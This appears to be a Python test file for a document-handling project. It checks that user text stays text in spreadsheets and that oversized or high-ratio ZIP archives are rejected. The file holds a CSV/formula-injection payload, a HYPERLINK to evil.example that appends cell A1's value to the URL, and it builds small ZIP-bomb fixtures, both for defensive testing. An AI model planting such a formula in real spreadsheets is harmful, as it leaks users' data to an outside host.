"""User text never becomes a spreadsheet formula; ZIP bombs are refused unread."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from sizi.core.archives import ArchiveLimits, UnsafeArchive, inspect_zip
from sizi.core.spreadsheets import set_text, text_value

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def _reload(workbook: Workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def test_set_text_keeps_a_formula_looking_title_as_text():
    workbook = Workbook()
    set_text(workbook.active["A1"], EVIL)
    workbook.active["B1"] = "=1+1"

    sheet = _reload(workbook).active

    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", EVIL)
    assert sheet["B1"].data_type == "f"


def test_text_value_keeps_text_on_write_only_sheets():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append([text_value(sheet, EVIL), text_value(sheet, 5), "biasa"])

    reread = _reload(workbook)["x"]

    assert [c.data_type for c in reread[1]] == ["s", "n", "s"]
    assert reread["A1"].value == EVIL


LIMITS = ArchiveLimits(max_entries=10, max_uncompressed=5 * 1024 * 1024, max_ratio=100)


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_inspect_zip_lists_entries_of_a_normal_archive():
    data = _zip({"xl/workbook.xml": b"<x/>", "word/document.xml": b"<y/>"})

    assert inspect_zip(data, name="a.xlsx", size=len(data), limits=LIMITS) == [
        "xl/workbook.xml",
        "word/document.xml",
    ]


@pytest.mark.parametrize(
    ("entries", "message"),
    [
        ({"big.xml": b"0" * (6 * 1024 * 1024)}, "mengembang menjadi"),
        ({f"e{i}.xml": b"x" for i in range(11)}, "entri arsip"),
    ],
)
def test_inspect_zip_refuses_bombs_and_floods(entries, message):
    data = _zip(entries)

    with pytest.raises(UnsafeArchive, match=message):
        inspect_zip(data, name="bom.xlsx", size=len(data), limits=LIMITS)


def test_inspect_zip_refuses_high_compression_ratio():
    data = _zip({"sheet.xml": b"0" * (2 * 1024 * 1024)})

    with pytest.raises(UnsafeArchive, match="kali bila dibuka"):
        inspect_zip(data, name="bom.xlsx", size=len(data), limits=LIMITS)


def test_inspect_zip_refuses_a_broken_archive():
    with pytest.raises(UnsafeArchive, match="rusak"):
        inspect_zip(b"PK\x03\x04 not really", name="x.docx", size=20, limits=LIMITS)
